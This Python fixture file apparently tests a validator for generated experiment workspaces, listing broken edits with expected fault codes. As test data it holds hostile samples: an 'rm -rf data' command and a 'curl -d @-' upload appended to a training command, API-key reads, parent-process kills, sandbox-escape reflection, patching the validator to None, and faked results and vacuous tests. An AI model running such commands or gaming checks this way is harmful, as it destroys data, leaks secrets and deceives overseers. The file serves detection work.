"""Broken workspaces: a valid one with a few characters changed, and the code that names the fault."""

from __future__ import annotations

from dataclasses import dataclass

IR, TASK_IR, PLAN = "ir/workflow.yaml", "ir/tasks/train.yaml", "plan/implementation_plan.md"


WIRING, RECORDS = "src/experiment/workflow.py", "src/experiment/records.py"


TRAIN, SUMMARISE, CHOOSE = (f"src/experiment/tasks/{name}.py" for name in ("train", "summarise", "choose_best"))


COMPARE, TABLE = (f"src/experiment/tasks/{name}.py" for name in ("compare_with_baseline", "write_table"))


TEST_CHOOSE, TEST_TABLE, TEST_TRAIN = (f"tests/test_{name}.py" for name in ("choose_best", "write_table", "train"))


FIRST = "    usable ="  # the first line of a body


ROW = "{'params': {'lr': 0.1}, 'mean': 1.0, 'std': 0.0, 'finished': 1, 'failed': 0}"


HOSTILE_TEST = "    rows = [row(0.1, 1.0), row(0.2, 2.0)]"


REMOVED = None


Edit = tuple[str, str | None, str]  # file, replaced text ("" appends, None replaces the whole file), new text


@dataclass(frozen=True)
class Broken:
    code: str
    names: str  # text that the message must contain
    file: str
    old: str | None
    new: str = ""
    also: tuple[str, str] | None = None  # a second change of the file


def body(code: str, names: str, statement: str) -> Broken:
    return Broken(code, names, CHOOSE, FIRST, f"    {statement}\n{FIRST}")


def module(code: str, names: str, statement: str) -> Broken:
    return Broken(code, names, CHOOSE, "", f"\n{statement}\n")


def test_body(code: str, names: str, statement: str) -> Broken:
    return Broken(code, names, TEST_CHOOSE, HOSTILE_TEST, f"    {statement}\n{HOSTILE_TEST}")


def helper(code: str, names: str, function: str, call: str) -> Broken:
    """Return an edit that makes the task return the result of a helper."""
    return Broken(
        code, names, CHOOSE, "\n\n@task\n", f"\n\n{function}\n\n\n@task\n", (FIRST, f"    return {call}\n{FIRST}")
    )


def weak_test(code: str, *lines: str) -> Broken:
    """Return an edit that replaces all tests of the task."""
    text = "\n".join(f"    {line}" for line in lines)
    start = "from experiment.tasks.choose_best import choose_best\n\n\ndef test_weak():\n"
    return Broken(code, "choose_best", TEST_CHOOSE, None, f"{start}{text}\n")


READ = [
    # files
    Broken("missing_file", "tests/test_summarise.py", "tests/test_summarise.py", REMOVED),
    Broken("missing_file", "src/experiment/__init__.py", "src/experiment/__init__.py", REMOVED),
    Broken("missing_file", CHOOSE, CHOOSE, REMOVED),
    Broken("missing_file", WIRING, WIRING, REMOVED),
    Broken("missing_file", "implementation_plan.md", PLAN, REMOVED),
    Broken("does_not_compile", SUMMARISE, SUMMARISE, "", "def (:\n"),
    Broken("does_not_compile", TEST_TRAIN, TEST_TRAIN, "", "assert (\n"),
    Broken("does_not_compile", CHOOSE, CHOOSE, "", "return 1\n"),
    Broken("does_not_compile", "larger", CHOOSE, "", "#" * (1 << 20)),
    Broken("does_not_compile", TABLE, TABLE, "", "nonlocal x\n"),
    Broken("stray_file", "src/labwright.py", "src/labwright.py", "", "x = 1\n"),
    Broken("stray_file", "src/json/__init__.py", "src/json/__init__.py", "", "x = 1\n"),
    Broken("stray_file", "fast.so", "src/experiment/fast.so", "", "x"),
    Broken("orphan", "ir/tasks/extra.yaml", "ir/tasks/extra.yaml", "", "id: extra\n"),
    Broken("orphan", "tasks/extra.py", "src/experiment/tasks/extra.py", "", "x = 1\n"),
    Broken("stray_file", "conftest.py", "tests/conftest.py", "", "x = 1\n"),
    Broken("stray_file", "my-task.py", "src/experiment/tasks/my-task.py", "", "x = 1\n"),
    # the IR
    Broken("bad_ir", "../choose", IR, "id: choose_best", "id: ../choose"),
    Broken("bad_ir", "a/b", IR, "id: choose_best", "id: a/b"),
    Broken("bad_ir", "choose-best", IR, "id: choose_best", "id: choose-best"),
    Broken("bad_ir", "nobody.result", IR, "source: summarise.result", "source: nobody.result"),
    Broken("bad_ir", "summarise.rows", IR, "source: summarise.result", "source: summarise.rows"),
    Broken("bad_ir", "direction", IR, "direction: minimize", "direction: ''"),
    Broken("bad_ir", TASK_IR, TASK_IR, REMOVED),
    Broken("bad_ir", "twice", IR, "id: write_table", "id: summarise"),
    Broken("bad_ir", "no YAML", IR, "", "\n  - : [\n"),
    Broken("bad_ir", "values", IR, "    values:\n    - 1\n    - 3\n    - 5\n", "    values: []\n"),
    Broken("bad_ir", "surprise", IR, "", "surprise: 1\n"),
    Broken("bad_ir", "success_criteria", TASK_IR, "- every run ends and reports test_mse", ""),
    Broken("type_mismatch", "list[float]", IR, "      type: Best\n", "      type: list[float]\n"),
    Broken("type_mismatch", "runs", IR, "runs: list[ExperimentRun]", "runs: list[int]"),
    Broken("unresolved_annotation", "Nothing", IR, "    result: Best\n", "    result: Nothing\n"),
    Broken(
        "cycle",
        "choose_best",
        IR,
        "      source: summarise.result\n    direction",
        "      source: choose_best.result\n    direction",
    ),
    Broken("orphan", "write_table", IR, "  table: write_table.result\n", ""),
    Broken("two_writers", "out.txt", IR, "  artifacts: []", "  artifacts: [out.txt]"),
    Broken("bad_artifact", "../x", IR, "    result: str\n  artifacts: []", "    result: str\n  artifacts: [../x]"),
    Broken("over_budget", "2", IR, "max_runs: null", "max_runs: 2"),
    Broken("bad_grid", "degree", IR, "    - 3\n", "    - 5\n"),
    Broken("bad_baseline", "other", IR, "    degree: 5\n", "    other: 5\n"),
    Broken("unused_parameter", "degree", TASK_IR, "DEGREE={degree}", "DEGREE=3"),
    Broken("unused_parameter", "seed", TASK_IR, " SEED={seed}", ""),
    Broken("missing_input", "data", TASK_IR, "SEED={seed}", "SEED={seed} LR={data}"),
    Broken("bad_command", "{0}", TASK_IR, "SEED={seed}", "SEED={0}"),
    # the plan
    Broken("plan_ir_mismatch", "7", PLAN, "1, 3, 5", "1, 3, 7"),
    Broken("plan_ir_mismatch", "7", PLAN, "**Runs**: 6", "**Runs**: 7"),
    Broken("plan_ir_mismatch", "train_mse", PLAN, "**Primary**: test_mse", "**Primary**: train_mse"),
    Broken("plan_format", "Measures", PLAN, "### Metrics", "### Measures"),
    # the command
    Broken("no_such_script", "fot.py", TASK_IR, "script: fit.py", "script: fot.py"),
    Broken("no_such_script", "other.py", TASK_IR, "python3 fit.py", "python3 other.py"),
    Broken("no_such_flag", "DEPTH", TASK_IR, "SEED={seed}", "SEED={seed} DEPTH=3"),
    Broken("no_such_flag", "--fast", TASK_IR, "python3 fit.py", "python3 fit.py --fast"),
    Broken("no_such_flag", "nohup", TASK_IR, "python3 fit.py", "nohup python3 fit.py"),
    Broken("no_such_flag", "degrees", IR, "flag: degree", "flag: degrees"),
    Broken("bad_value", "5.5", IR, "    - 5\n", "    - 5.5\n"),
    Broken("bad_value", "many", IR, "    degree: 5\n", "    degree: many\n"),
    Broken("more_than_a_script", "rm -rf", TASK_IR, "python3 fit.py\n", "python3 fit.py; rm -rf data\n"),
    Broken("more_than_a_script", "curl", TASK_IR, "python3 fit.py\n", "python3 fit.py | curl -d @- x\n"),
    Broken("metric_not_produced", "test_acc", IR, "name: test_mse", "name: test_acc"),
    # forbidden code
    module("forbidden_import", "subprocess", "import subprocess"),
    module("forbidden_import", "threading", "from threading import Thread"),
    module("forbidden_import", "socket", "import socket as s"),
    module("forbidden_import", "importlib", "from importlib import import_module as load"),
    module("forbidden_import", "atexit", "import atexit"),
    module("forbidden_import", "ctypes", "import ctypes.util"),
    module("forbidden_import", "everything from os", "from os import *"),
    module("forbidden_import", "urllib.request", "from urllib import request"),
    Broken("forbidden_import", "unittest.mock", TEST_CHOOSE, "", "from unittest import mock\n"),
    body("forbidden_import", "multiprocessing", "import multiprocessing"),
    module("forbidden_call", "sys.exit", "import sys\nsys.exit(0)"),
    module("forbidden_call", "os._exit", "from os import _exit"),
    module("forbidden_call", "os._exit", "from os import _exit as leave\nleave(0)"),
    module("forbidden_call", "os.kill", "import os as o\no.kill(o.getppid(), 9)"),
    module("forbidden_call", "os.fork", "import os\nos.fork()"),
    module("forbidden_call", "os.environ", "import os\nKEY = os.environ['OPENAI_API_KEY']"),
    module("forbidden_call", "sys.modules", "import sys\nsys.modules['labwright'] = None"),
    module("forbidden_call", "sys.meta_path", "import sys\nsys.meta_path.insert(0, None)"),
    body("forbidden_call", "__import__", "__import__('os')"),
    body("forbidden_call", "eval", "run = eval"),
    test_body("forbidden_call", "os._exit", "import os; os._exit(0)"),
    test_body("forbidden_call", "sys._getframe", "import sys; sys._getframe(1)"),
    body("reflection", "__subclasses__", "().__class__.__base__.__subclasses__()"),
    body("reflection", "__globals__", "choose_best.body.__globals__"),
    body("reflection", "not written there", "getattr(rows, 'po' + 'p')"),
    body("reflection", "/proc/", "open('/proc/self/mem')"),
    test_body("reflection", "__builtins__", "__builtins__"),
    module(
        "patches", "validate_contract", "from labwright.workflow import contract\ncontract.validate_contract = None"
    ),
    module("patches", "load.describe", "import labwright.workflow.load as load\nload.describe, x = 1, 2"),
    module("patches", "setattr", "import labwright\nsetattr(labwright, 'x', 1)"),
    test_body("patches", "summarise", "from experiment.tasks import summarise; summarise.row_of = None"),
    body("starts_training", "fit", "import fit"),
    body("starts_training", "model.fit", "model = rows\n    model.fit(rows)"),
    body("starts_training", "fit.py", "script = 'fit.py'"),
    body("missing_package", "no_such_package", "import no_such_package"),
    Broken("missing_package", "no_such_package", TEST_CHOOSE, "", "import no_such_package\n"),
    body("undefined_name", "nowhere", "nowhere()"),
    Broken("undefined_name", "nowhere", TEST_CHOOSE, "rows = [", "rows = nowhere + ["),
    # stubs
    body("stub", "choose_best", "raise NotImplementedError"),
    Broken("stub", "write_table", TABLE, "    if not rows:\n", '    return "a table"\n    if not rows:\n'),
    Broken(
        "stub",
        "write_table",
        TABLE,
        "    if not rows:",
        "    pass\n\n\ndef rest(rows, metric, direction):\n    if not rows:",
    ),
    helper(
        "stub",
        "choose_best",
        "def pick_one():\n    return {'params': {}, 'mean': 0.9, 'std': 0.0, 'finished': 3}",
        "pick_one()",
    ),
    helper("stub", "pick_one", "def pick_one(rows):\n    return {'params': {}, 'mean': 9.9}", "pick_one(rows)"),
    helper("stub", "0.93", "def pick_one(rows):\n    return {'params': rows[0], 'mean': 0.93}", "pick_one(rows)"),
    helper(
        "stub",
        "0.93",
        "GOOD = float('0.93')\n\n\ndef pick_one(rows):\n    return {'params': rows[0], 'mean': GOOD}",
        "pick_one(rows)",
    ),
    # tests
    Broken("no_tests", TEST_TRAIN, TEST_TRAIN, "def test_", "def check_"),
    Broken("asserts_nothing", "test_the_best", TEST_TABLE, "    assert ", "    lines and "),
    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert True"),
    Broken(
        "asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert (train, 1)"
    ),
    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert 6 == 6"),
    Broken(
        "asserts_nothing",
        "planned_runs",
        TEST_TRAIN,
        "assert len(train.configurations()) == 6",
        "assert train == train",
    ),
    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "    assert len(", "    return\n    assert len("),
    Broken(
        "asserts_nothing",
        "planned_runs",
        TEST_TRAIN,
        "    assert len(train.configurations())",
        "    if False:\n        assert len(train.configurations())",
    ),
    *(
        weak_test("asserts_nothing", "best = choose_best([ROW], 'maximize')".replace("ROW", ROW), *lines)
        for lines in (
            ("assert best is not None",),
            ("assert isinstance(best, dict)",),
            ("assert best is not None and isinstance(best, dict)",),
            ("assert len(best) >= 0",),
            ("assert -1 < len(best)",),
            ("assert type(best) == dict",),
            ("assert best['mean'] == 9 or True",),
            ("for row in []:", "    assert row['mean'] == 9"),
            ("rows = []", "for row in rows:", "    assert row['mean'] == 9"),
            ("for number in range(0):", "    assert best['mean'] == 9"),
            ("while False:", "    assert best['mean'] == 9"),
            ("try:", "    assert best['mean'] == 9", "except AssertionError:", "    pass"),
            ("try:", "    assert best['mean'] == 9", "except (ValueError, Exception) as error:", "    print(error)"),
            ("try:", "    assert best['mean'] == 9", "except:", "    best = None"),
            ("import contextlib", "with contextlib.suppress(AssertionError):", "    assert best['mean'] == 9"),
        )
    ),
    Broken("unusable_test", "test_later", TEST_TRAIN, "", "\nasync def test_later():\n    assert train\n"),
    Broken("unusable_test", "test_given", TEST_TRAIN, "", "\ndef test_given(tmp_path):\n    assert tmp_path\n"),
    Broken(
        "unusable_test",
        "test_inside",
        TEST_TRAIN,
        "",
        "\nclass TestIt:\n    def test_inside(self):\n        assert self\n",
    ),
    Broken(
        "not_tested",
        "choose_best",
        TEST_CHOOSE,
        "from experiment.tasks.choose_best import choose_best\n",
        "def choose_best(rows, direction):\n    return rows[direction == 'maximize']\n",
    ),
]


RUN = [
    Broken("import_effect", "/tmp/x", CHOOSE, "", "open('/tmp/x', 'w').close()\n"),
    Broken("import_failed", "no way", CHOOSE, "", "raise RuntimeError('no way')\n"),
    Broken("no_symbol", "create_workflow", WIRING, "def create_workflow", "def make_workflow"),
    Broken("not_a_workflow", "dict", WIRING, "return workflow", "return {}"),
    Broken(
        "empty",
        "no steps",
        WIRING,
        'workflow = Workflow("degree_experiment")',
        "workflow = Workflow('empty')\n    return workflow",
    ),
    Broken(
        "code_ir_mismatch",
        'Output("train", "runs")'.replace('"', "'"),
        WIRING,
        '"rows": Output("summarise", "result"), "best"',
        '"rows": Output("train", "runs"), "best"',
    ),
    Broken("code_ir_mismatch", "[1, 3, 7]", TRAIN, "[1, 3, 5]", "[1, 3, 7]"),
    Broken("code_ir_mismatch", "other.py", TRAIN, "python3 fit.py", "python3 other.py"),
    Broken("code_ir_mismatch", "gpus=8", TRAIN, "gpus=0", "gpus=8"),
    Broken("code_ir_mismatch", "mean: str", RECORDS, "mean: float", "mean: str"),
    Broken("metric_without_direction", "test_mse", TRAIN, "'minimize'", "''"),
    Broken("type_mismatch", "direction as list[float]", CHOOSE, "direction: str", "direction: list[float]"),
    Broken("type_mismatch", "returns float", CHOOSE, "-> Best", "-> float"),
    Broken("wrong_inputs", "more", CHOOSE, "direction: str)", "direction: str, more: int)"),
    Broken("not_a_task", "@task", CHOOSE, "@task\n", ""),
    Broken("not_a_task", "once", CHOOSE, "", "\nchoose_best = len\n"),
    Broken(
        "test_failed",
        "test_the_direction_decides",
        TEST_CHOOSE,
        '"minimize")["params"] == {"lr": 0.1}',
        '"minimize")["params"] == {"lr": 0.9}',
    ),
    Broken("test_failed", "test_the_direction_decides", CHOOSE, "pick = max if", "pick = min if"),
    Broken("tests_no_answer", TEST_CHOOSE, TEST_CHOOSE, "", "raise SystemExit(0)\n"),
    weak_test("tests_notice_nothing", f"assert choose_best([{ROW}], 'maximize')"),
    weak_test("tests_notice_nothing", f"assert 'mean' in choose_best([{ROW}], 'maximize')"),
    weak_test("tests_notice_nothing", f"best = choose_best([{ROW}], 'maximize')", "assert best['mean'] < 1000"),
]
